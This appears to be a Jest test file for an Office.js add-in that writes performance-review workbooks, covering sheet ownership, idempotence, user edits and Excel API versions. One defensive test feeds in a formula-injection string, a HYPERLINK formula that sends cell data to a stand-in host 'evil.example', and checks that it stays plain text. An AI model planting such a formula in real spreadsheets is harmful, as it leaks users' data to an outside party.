/**
 * The Office.js writer on the Excel double: ownership, edits, idempotence, formula injection,
 * requirement sets. The 10,000-row payload test and the failure-at-every-sync test have their
 * own files.
 */
import { markName, decodeMark } from "../../src/office/marks";
import { widthInPoints } from "../../src/office/sheetSteps";
import { applyLayout } from "../../src/office/writer";
import type { SheetLayout } from "../../src/workbook/layout";
import { createExcelDouble } from "../support/excel-double";
import { fixtureLayout, only } from "./fixtures";
import { apply, done, expectUsable, userState, userWorkbook } from "./support";

const ROWS = 12;

function markOf(d: ReturnType<typeof createExcelDouble>, role: SheetLayout["role"]) {
  const n = d.model.names.get(markName(role).toUpperCase());
  return n
    ? {
        sheet: n.range?.sheet.name,
        deleted: n.range?.sheet.deleted,
        visible: n.visible,
        mark: decodeMark(n.comment),
      }
    : undefined;
}

function writesOf(d: ReturnType<typeof createExcelDouble>, from: number): number {
  return d.syncs.slice(from).reduce((n, s) => n + s.writes, 0);
}

describe("applyLayout: a new plan workbook", () => {
  it("should create every sheet visible, marked and complete, with nothing temporary left", async () => {
    const d = userWorkbook();
    const before = userState(d);
    const r = await done(d, fixtureLayout({ rows: ROWS }));
    expect(r.sheets.map((s) => [s.role, s.name, s.action])).toEqual([
      ["guide", "使用说明", "created"],
      ["plan", "方案", "created"],
      ["data", "数据", "created"],
      ["feedback", "360评价", "created"],
      ["scorecard", "评分卡", "created"],
      ["summary", "汇总", "created"],
      ["statements", "绩效结果通知单", "created"],
    ]);
    expect(d.model.live().map((s) => [s.name, s.visibility])).toEqual([
      ["Payroll", "Visible"],
      ["使用说明", "Visible"],
      ["方案", "Visible"],
      ["数据", "Visible"],
      ["360评价", "Visible"],
      ["评分卡", "Visible"],
      ["汇总", "Visible"],
      ["绩效结果通知单", "Visible"],
    ]);
    for (const role of [
      "guide",
      "plan",
      "data",
      "feedback",
      "scorecard",
      "summary",
      "statements",
    ] as const) {
      const m = markOf(d, role);
      expect(m?.visible).toBe(false);
      expect(m?.mark?.state).toBe("ok");
      expect(m?.mark?.role).toBe(role);
    }
    expect(markOf(d, "scorecard")?.sheet).toBe("评分卡");
    expect(userState(d)).toEqual(before);
    expectUsable(d);
  });

  it("should write formulas that point at the sheets they name, and the sheet-level setup", async () => {
    const d = createExcelDouble();
    await done(d, fixtureLayout({ rows: ROWS }));
    const m = d.model;
    expect(m.read("评分卡", "A2")).toBe("=数据!A2");
    expect(m.read("评分卡", "G2")).toBe("=ROUND(E2*Plan_SalesWeight+F2*Plan_CashWeight,2)");
    expect(m.read("汇总", "B2")).toBe('=COUNTIFS(评分卡!H:H,"A")');
    expect(m.read("绩效结果通知单", "B3")).toBe("=评分卡!G2");
    const sc = m.mustFindSheet("评分卡");
    expect(sc.freeze).toEqual({ rows: 1, cols: 2 });
    expect(sc.colWidths.get(0)).toBe(widthInPoints(12));
    expect(sc.colFormats.get(6)).toBe("0.00");
    expect(sc.numberFormatAt(5, 4)).toBe("0.00");
    expect(sc.cell(0, 3)?.style).toMatchObject({
      "font.bold": true,
      "fill.color": "#DDEBF7",
      "border.EdgeBottom.style": "Continuous",
    });
    expect(sc.conditionalFormats).toEqual([
      { rect: { row: 1, col: 6, rows: ROWS, cols: 1 }, type: "DataBar", fillColor: "#5B9BD5" },
    ]);
    expect(m.tables.map((t) => [t.name, t.sheet.name])).toEqual([
      ["DataTable", "数据"],
      ["ScorecardTable", "评分卡"],
    ]);
    expect(m.tables.find((t) => t.name === "DataTable")?.style).toBe("TableStyleLight9");
    const names = (n: string) => m.names.get(n.toUpperCase());
    expect(m.nameValue(names("Plan_SalesWeight")!)).toBe("方案!$B$3");
    expect(names("Plan_SalesWeight")!.comment).toBe("销售额权重 [perf-addin]");
    expect(m.nameValue(names("Scorecard_Total")!)).toBe(`评分卡!$G$2:$G$${ROWS + 1}`);
    const data = m.mustFindSheet("数据");
    expect(data.validations.map((v) => v.rule)).toEqual([
      { list: { inCellDropDown: true, source: "华东一组,华东二组,华南组,华北组,West,East" } },
    ]);
    expect(m.mustFindSheet("方案").validations[0]).toMatchObject({
      rule: { decimal: { formula1: 0, formula2: 1, operator: "Between" } },
      prompt: { showPrompt: true, message: "0 到 1 之间" },
    });
    const chart = m.mustFindSheet("汇总").charts[0];
    expect(chart).toMatchObject({
      name: "PERF_summary_1",
      type: "ColumnClustered",
      title: "等级分布",
      position: { start: "D1", end: "K15" },
    });
    expect(chart.series[0]).toMatchObject({
      name: "人数",
      values: { rect: { row: 1, col: 1, rows: 3, cols: 1 } },
      xValues: { rect: { row: 1, col: 0, rows: 3, cols: 1 } },
    });
    expect(m.mustFindSheet("汇总").merges).toEqual([{ row: 6, col: 0, rows: 1, cols: 2 }]);
    const st = m.mustFindSheet("绩效结果通知单");
    expect(st.page).toMatchObject({
      orientation: "Portrait",
      paperSize: "A4",
      zoom: { horizontalFitToPages: 1, verticalFitToPages: 0 },
      rowBreaks: [4, 8, 12, 16],
    });
    expect(st.page.printArea).toEqual({ row: 0, col: 0, rows: 20, cols: 2 });
    expect(st.page.titleRows).toMatchObject({ row: 0, rows: 1 });
    expect(m.mustFindSheet("使用说明").tabColor).toBe("#2F75B5");
    expect(m.brokenReferences).toEqual([]);
  });

  it("should write text that Excel would reinterpret as text, so a name like =HYPERLINK(…) is never a formula", async () => {
    const tricky = [
      '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
      "+86 138 0000 0000",
      "-Ops",
      "@SUM(1,2)",
      "007",
      "2024-03",
      "TRUE",
      "#N/A",
      "'quoted",
      "张三",
    ];
    const d = createExcelDouble();
    await done(d, fixtureLayout({ rows: tricky.length, names: (i) => tricky[i] }));
    const data = d.model.mustFindSheet("数据");
    tricky.forEach((text, i) => {
      const cell = data.cell(i + 1, 1);
      expect(cell?.formula).toBeUndefined();
      expect(cell?.value).toBe(text);
    });
    expect(data.cell(1, 1)?.prefixed).toBe(true);
    expect(data.cell(10, 1)?.prefixed).toBeUndefined(); // plain text needs no prefix
    // teams "-Ops" and "=Team", the period, the id: all text
    expect(data.cell(7, 2)?.value).toBe("-Ops");
    expect(data.cell(8, 2)?.value).toBe("=Team");
    expect(data.cell(1, 3)?.value).toBe("2024-03");
    expect(data.cell(1, 0)?.value).toBe("E00001");
    // and the scorecard's formula only refers to the name's cell
    expect(d.model.read("评分卡", "B2")).toBe("=数据!B2");
  });
});

describe("applyLayout: regeneration", () => {
  it("should be idempotent: the same layout again changes nothing and writes no cells", async () => {
    const d = userWorkbook();
    const layout = fixtureLayout({ rows: ROWS });
    await done(d, layout);
    const before = d.model.snapshot();
    const from = d.syncs.length;
    const r = await done(d, layout);
    expect(r.sheets.map((s) => s.action)).toEqual([
      "unchanged",
      "kept",
      "kept",
      "kept",
      "unchanged",
      "unchanged",
      "unchanged",
    ]);
    expect(d.model.snapshot()).toEqual(before);
    expect(writesOf(d, from)).toBe(0);
  });

  it("should rewrite a sheet whose cells are the same but whose formatting or chart changed", async () => {
    const d = createExcelDouble();
    await done(d, fixtureLayout({ rows: ROWS }));
    const layout = fixtureLayout({ rows: ROWS });
    layout.sheets.find((s) => s.role === "scorecard")!.styles[0].fill = "#FFF2CC";
    layout.sheets.find((s) => s.role === "summary")!.charts[0].title = "Grades";
    const r = await done(d, layout);
    expect(r.sheets.filter((s) => s.action === "replaced").map((s) => s.role)).toEqual([
      "scorecard",
      "summary",
    ]);
    expect(d.model.mustFindSheet("评分卡").cell(0, 0)?.style).toMatchObject({
      "fill.color": "#FFF2CC",
    });
    expect(d.model.mustFindSheet("汇总").charts[0].title).toBe("Grades");
  });

  it("should rewrite to the identical workbook when forced", async () => {
    const d = userWorkbook();
    const layout = fixtureLayout({ rows: ROWS });
    await done(d, layout);
    const before = d.model.snapshot();
    const r = await done(d, layout, { force: true });
    expect(r.sheets.filter((s) => s.action === "replaced").map((s) => s.role)).toEqual([
      "guide",
      "scorecard",
      "summary",
      "statements",
    ]);
    expect(d.model.snapshot()).toEqual(before);
  });

  it("should replace changed outputs in place, keeping the user's references to their cells", async () => {
    const d = userWorkbook();
    await done(d, fixtureLayout({ rows: ROWS }));
    d.model.type("Payroll", "D1", [["=评分卡!G2*100", "=SUM(Scorecard_Total)"]]);
    const before = userState(d);
    const r = await done(d, fixtureLayout({ rows: ROWS, revision: 1 }));
    expect(r.sheets.find((s) => s.role === "scorecard")).toEqual({
      role: "scorecard",
      name: "评分卡",
      action: "replaced",
    });
    expect(d.model.read("评分卡", "G2")).toBe("=ROUND(E2*Plan_SalesWeight+F2*Plan_CashWeight,2)+1");
    expect(d.model.read("Payroll", "D1")).toBe("=评分卡!G2*100");
    expect(userState(d)).toEqual(before);
    expect(d.host.commandCounts.get("call:copyFrom")).toBe(1);
    expect(d.model.live().filter((s) => s.name.startsWith("~perf~"))).toEqual([]);
    expectUsable(d);
  });

  it("should keep input sheets as the user filled them and follow a renamed input sheet", async () => {
    const d = createExcelDouble();
    await done(d, fixtureLayout({ rows: ROWS }));
    d.model.type("数据", "E2", [[999999]]);
    d.model.renameSheet(d.model.mustFindSheet("数据"), "CRM 2024");
    const dataBefore = d.model.snapshot(["CRM 2024"]);
    const r = await done(d, fixtureLayout({ rows: ROWS, revision: 2 }));
    expect(r.sheets.find((s) => s.role === "data")).toEqual({
      role: "data",
      name: "CRM 2024",
      action: "kept",
    });
    expect(r.notes.map((n) => n.key)).toContain("officeInputKept");
    expect(d.model.snapshot(["CRM 2024"])).toEqual(dataBefore);
    expect(d.model.findSheet("数据")).toBeUndefined();
    expect(d.model.read("评分卡", "E2")).toBe("=ROUND(MIN(120,'CRM 2024'!E2/1000*0.8),2)");
    expect(d.model.brokenReferences).toEqual([]);
  });

  it("should not take a renamed add-in sheet for an edited one", async () => {
    const d = createExcelDouble();
    const layout = fixtureLayout({ rows: ROWS });
    await done(d, layout);
    d.model.renameSheet(d.model.mustFindSheet("评分卡"), "Scores Q1");
    const confirm = jest.fn(async () => "replace" as const);
    const r = await done(d, layout, { confirmReplace: confirm });
    expect(confirm).not.toHaveBeenCalled();
    expect(r.sheets.find((s) => s.role === "scorecard")).toEqual({
      role: "scorecard",
      name: "Scores Q1",
      action: "unchanged",
    });
  });

  it("should rewrite an input sheet only when asked to (the plan editor's save)", async () => {
    const d = createExcelDouble();
    await done(d, fixtureLayout({ rows: ROWS }));
    d.model.type("方案", "B3", [[0.7]]);
    d.model.type("数据", "E2", [[1]]);
    const layout = only(fixtureLayout({ rows: ROWS }), ["plan"]);
    const r = await done(d, layout, { rewriteInputs: ["plan"] });
    expect(r.sheets).toEqual([{ role: "plan", name: "方案", action: "replaced" }]);
    expect(d.model.read("方案", "B3")).toBe(0.6);
    expect(d.model.read("数据", "E2")).toBe(1);
    expect(d.model.read("评分卡", "G2")).toBe("=ROUND(E2*Plan_SalesWeight+F2*Plan_CashWeight,2)");
  });
});

describe("applyLayout: sheets that are not the add-in's", () => {
  it("should never touch a user sheet with the same name, writing under a new valid name", async () => {
    const d = userWorkbook();
    d.model.addSheet("评分卡");
    d.model.type("评分卡", "A1", [["my own scorecard", 42]]);
    const before = userState(d, ["Payroll", "评分卡"]);
    const r = await done(d, fixtureLayout({ rows: ROWS }));
    expect(r.sheets.find((s) => s.role === "scorecard")?.name).toBe("评分卡 (2)");
    expect(r.notes.find((n) => n.key === "officeSheetRenamed")?.message).toBe(
      "已存在一个并非由加载项创建的“评分卡”工作表；加载项改为写入“评分卡 (2)”。"
    );
    expect(d.model.read("汇总", "B2")).toBe("=COUNTIFS('评分卡 (2)'!H:H,\"A\")");
    expect(d.model.read("绩效结果通知单", "B3")).toBe("='评分卡 (2)'!G2");
    expect(d.model.nameValue(d.model.names.get("SCORECARD_TOTAL")!)).toBe(
      `'评分卡 (2)'!$G$2:$G$${ROWS + 1}`
    );
    // and again: still untouched, ours regenerates in place
    const again = await done(d, fixtureLayout({ rows: ROWS, revision: 1 }));
    expect(again.sheets.find((s) => s.role === "scorecard")).toEqual({
      role: "scorecard",
      name: "评分卡 (2)",
      action: "replaced",
    });
    expect(userState(d, ["Payroll", "评分卡"])).toEqual(before);
  });

  it("should refuse to replace a defined name the user created, changing nothing", async () => {
    const d = userWorkbook();
    d.model.addName("Plan_SalesWeight", "=0.5", "the user's");
    const before = d.model.snapshot();
    const r = await apply(d, fixtureLayout({ rows: ROWS }));
    expect(r.status).toBe("failed");
    if (r.status !== "failed") return;
    expect(r.error.code).toBe("NameConflict");
    expect(r.message).toContain("Plan_SalesWeight");
    expect(d.model.snapshot()).toEqual(before);
  });

  it("should give its table a free name when the user has a table of that name", async () => {
    const d = userWorkbook();
    d.model.addTable(d.model.mustFindSheet("Payroll"), { row: 0, col: 0, rows: 2, cols: 2 }, true);
    d.model.renameTable(d.model.tables[0], "ScorecardTable");
    const r = await done(d, fixtureLayout({ rows: ROWS }));
    expect(d.model.tables.map((t) => [t.name, t.sheet.name])).toContainEqual([
      "ScorecardTable_2",
      "评分卡",
    ]);
    expect(r.notes.map((n) => n.key)).toContain("officeTableRenamed");
  });
});

describe("applyLayout: an add-in sheet the user edited", () => {
  async function edited() {
    const d = userWorkbook();
    await done(d, fixtureLayout({ rows: ROWS }));
    d.model.type("评分卡", "G3", [[100]]); // a manual override of a total
    return d;
  }

  it("should stop without changing anything when the user cancels", async () => {
    const d = await edited();
    const before = d.model.snapshot();
    const from = d.syncs.length;
    const confirm = jest.fn(async () => "cancel" as const);
    const r = await apply(d, fixtureLayout({ rows: ROWS, revision: 1 }), {
      confirmReplace: confirm,
    });
    expect(r.status).toBe("cancelled");
    expect(confirm).toHaveBeenCalledTimes(1);
    expect(confirm).toHaveBeenCalledWith("评分卡", { role: "scorecard" });
    expect(d.model.snapshot()).toEqual(before);
    expect(writesOf(d, from)).toBe(0);
  });

  it("should keep the edited sheet and write a new one beside it when the user says so", async () => {
    const d = await edited();
    const r = await done(d, fixtureLayout({ rows: ROWS, revision: 1 }), {
      confirmReplace: async () => "new",
    });
    expect(r.sheets.find((s) => s.role === "scorecard")).toEqual({
      role: "scorecard",
      name: "评分卡 (2)",
      action: "createdAlongside",
    });
    expect(d.model.read("评分卡", "G3")).toBe(100);
    expect(d.model.read("评分卡 (2)", "G3")).toBe(
      "=ROUND(E3*Plan_SalesWeight+F3*Plan_CashWeight,2)+1"
    );
    expect(markOf(d, "scorecard")?.sheet).toBe("评分卡 (2)");
    expect(d.model.read("汇总", "B2")).toBe("=COUNTIFS('评分卡 (2)'!H:H,\"A\")");
    // the kept sheet is now the user's: the next run leaves it alone and asks nothing
    const confirm = jest.fn(async () => "replace" as const);
    await done(d, fixtureLayout({ rows: ROWS, revision: 2 }), { confirmReplace: confirm });
    expect(confirm).not.toHaveBeenCalled();
    expect(d.model.read("评分卡", "G3")).toBe(100);
    expectUsable(d);
  });

  it("should keep the edited sheet when there is no one to ask", async () => {
    const d = await edited();
    const r = await done(d, fixtureLayout({ rows: ROWS, revision: 1 }));
    expect(r.sheets.find((s) => s.role === "scorecard")?.action).toBe("createdAlongside");
    expect(d.model.read("评分卡", "G3")).toBe(100);
  });

  it("should replace the edited sheet when the user agrees", async () => {
    const d = await edited();
    const r = await done(d, fixtureLayout({ rows: ROWS, revision: 1 }), {
      confirmReplace: async () => "replace",
    });
    expect(r.sheets.find((s) => s.role === "scorecard")).toEqual({
      role: "scorecard",
      name: "评分卡",
      action: "replaced",
    });
    expect(d.model.read("评分卡", "G3")).toBe("=ROUND(E3*Plan_SalesWeight+F3*Plan_CashWeight,2)+1");
  });

  it.each([
    [
      "a value typed below the table",
      (d: ReturnType<typeof createExcelDouble>) =>
        d.model.type("评分卡", `A${ROWS + 5}`, [["note"]]),
    ],
    [
      "a column added to the right",
      (d: ReturnType<typeof createExcelDouble>) => d.model.type("评分卡", "AF1", [["comment"]]),
    ],
    [
      "a cell cleared",
      (d: ReturnType<typeof createExcelDouble>) => d.model.type("评分卡", "B4", [[""]]),
    ],
    [
      "a formula changed",
      (d: ReturnType<typeof createExcelDouble>) =>
        d.model.type("评分卡", "H2", [['=IF(G2>=80,"A","B")']]),
    ],
    [
      "a formula pointed at another cell",
      (d: ReturnType<typeof createExcelDouble>) => d.model.type("评分卡", "A2", [["=数据!A3"]]),
    ],
    [
      "a chart added",
      (d: ReturnType<typeof createExcelDouble>) =>
        d.model
          .mustFindSheet("评分卡")
          .charts.push({ name: "Mine", type: "Pie", title: "", series: [] }),
    ],
  ])("should notice %s", async (_what, edit) => {
    const d = userWorkbook();
    await done(d, fixtureLayout({ rows: ROWS }));
    edit(d);
    const confirm = jest.fn(async () => "cancel" as const);
    const r = await apply(d, fixtureLayout({ rows: ROWS, revision: 1 }), {
      confirmReplace: confirm,
    });
    expect(r.status).toBe("cancelled");
    expect(confirm).toHaveBeenCalledWith("评分卡", { role: "scorecard" });
  });
});

describe("applyLayout: hosts with fewer requirement sets", () => {
  it("should replace in place without Range.copyFrom (ExcelApi 1.8) and leave printing out", async () => {
    const d = userWorkbook({ apiVersion: "1.8" });
    const first = await done(d, fixtureLayout({ rows: ROWS }));
    expect(first.notes.map((n) => n.key)).toContain("officePrintSkipped");
    d.model.type("Payroll", "D1", [["=评分卡!G2"]]);
    const r = await done(d, fixtureLayout({ rows: ROWS, revision: 1 }));
    expect(r.sheets.find((s) => s.role === "scorecard")?.action).toBe("replaced");
    expect(r.notes.map((n) => n.key)).toContain("officeReplacedInPlace");
    expect(d.host.commandCounts.get("call:copyFrom")).toBeUndefined();
    expect(d.model.read("评分卡", "G2")).toBe("=ROUND(E2*Plan_SalesWeight+F2*Plan_CashWeight,2)+1");
    expect(d.model.read("Payroll", "D1")).toBe("=评分卡!G2");
    expect(d.model.mustFindSheet("绩效结果通知单").page.orientation).toBeUndefined();
    expectUsable(d);
  });

  it("should leave drop-down lists out below ExcelApi 1.8 and say so", async () => {
    const d = createExcelDouble({ apiVersion: "1.7" });
    const r = await done(d, fixtureLayout({ rows: ROWS }));
    expect(
      r.notes.filter((n) => n.key === "officeValidationSkipped").map((n) => n.params.sheet)
    ).toEqual(["方案", "数据"]);
    expect(d.model.mustFindSheet("数据").validations).toEqual([]);
    expect(d.model.mustFindSheet("汇总").charts).toHaveLength(1);
  });

  it("should refuse to start below ExcelApi 1.7, changing nothing", async () => {
    const d = userWorkbook({ apiVersion: "1.6" });
    const before = d.model.snapshot();
    const r = await apply(d, fixtureLayout({ rows: ROWS }));
    expect(r).toMatchObject({ status: "failed", error: { code: "UnsupportedHost" } });
    expect(d.model.snapshot()).toEqual(before);
    expect(d.syncs).toHaveLength(0);
  });
});

describe("applyLayout: in Excel", () => {
  it("should use the Excel and Office globals when no host is given, in one Excel.run", async () => {
    const d = createExcelDouble();
    const uninstall = d.install();
    const run = jest.spyOn(d.client().client.Excel, "run"); // Microsoft's Excel.run, under the global
    try {
      const progress: string[] = [];
      const r = await applyLayout(fixtureLayout({ rows: ROWS }), {
        onProgress: (p) => progress.push(p.phase),
      });
      expect(r.status).toBe("done");
      expect(run).toHaveBeenCalledTimes(1);
      expect(progress[0]).toBe("inspecting");
      expect(progress[progress.length - 1]).toBe("done");
    } finally {
      uninstall();
    }
  });

  it("should recalculate once at the end, in a round trip that is not suspended", async () => {
    const d = createExcelDouble();
    await done(d, fixtureLayout({ rows: ROWS }));
    expect(d.host.commandCounts.get("call:calculate")).toBe(1);
    const last = d.syncs[d.syncs.length - 1];
    expect([last.commands, last.calculationSuspended]).toEqual([1, false]);
    const before = d.syncs.length;
    await done(d, fixtureLayout({ rows: ROWS })); // nothing to write: nothing to recalculate
    expect(d.host.commandCounts.get("call:calculate")).toBe(1);
    expect(d.syncs.length - before).toBeLessThanOrEqual(3);
  });

  it("should report progress per round trip up to the planned total", async () => {
    const d = createExcelDouble();
    const seen: { phase: string; completed: number; total: number; sheet?: string }[] = [];
    await done(d, fixtureLayout({ rows: 400 }), {
      chunkBytes: 16 * 1024,
      onProgress: (p) => seen.push(p),
    });
    const writing = seen.filter((p) => p.phase !== "inspecting" && p.phase !== "done");
    expect(writing.length).toBeGreaterThan(5);
    writing.forEach((p, i) => expect(p.completed).toBe(i + 1));
    expect(writing[writing.length - 1].completed).toBe(writing[0].total);
    const order = ["setup", "writing", "formatting", "finishing"];
    const phases = writing.map((p) => order.indexOf(p.phase));
    expect(phases).toEqual([...phases].sort((a, b) => a - b));
    expect(phases).toContain(order.indexOf("writing"));
    expect(phases[phases.length - 1]).toBe(order.indexOf("finishing"));
    expect(writing.some((p) => p.sheet === "评分卡")).toBe(true);
  });

  it("should say what happened when Excel fails, with Excel's code and debug info", async () => {
    const d = userWorkbook();
    d.failAt(1, "before", "RequestAborted"); // the first write
    const r = await apply(d, fixtureLayout({ rows: ROWS }), {});
    expect(r.status).toBe("failed");
    if (r.status !== "failed") return;
    expect(r.error.code).toBe("RequestAborted");
    expect(r.error.debugInfo).toMatchObject({ code: "RequestAborted" });
    expect(r.message).toContain("RequestAborted");
    expectUsable(d);
  });
});

describe("applyLayout: the layout's own mistakes", () => {
  it("should make table headers what Excel would keep, so they are not taken for edits", async () => {
    const d = createExcelDouble();
    const layout = fixtureLayout({ rows: ROWS });
    const sc = layout.sheets.find((s) => s.role === "scorecard")!;
    sc.blocks[0].cells[0][9] = "指标1"; // same header twice
    sc.blocks[0].cells[0][10] = null; // an empty header
    const r = await done(d, layout);
    expect(r.notes.map((n) => n.key)).toContain("officeTableHeaderChanged");
    expect([d.model.read("评分卡", "J1"), d.model.read("评分卡", "K1")]).toEqual([
      "指标12",
      "Column11",
    ]);
    const again = await done(d, layout, { confirmReplace: async () => "cancel" });
    expect(again.sheets.find((s) => s.role === "scorecard")?.action).toBe("unchanged");
  });

  it("should refuse a layout with two sheets of one role, changing nothing", async () => {
    const d = createExcelDouble();
    const layout = fixtureLayout({ rows: 2 });
    layout.sheets.push({ ...layout.sheets[4], name: "Other" });
    const r = await apply(d, layout);
    expect(r).toMatchObject({ status: "failed", error: { code: "LayoutInvalid" } });
    expect(d.syncs).toHaveLength(0);
  });
});
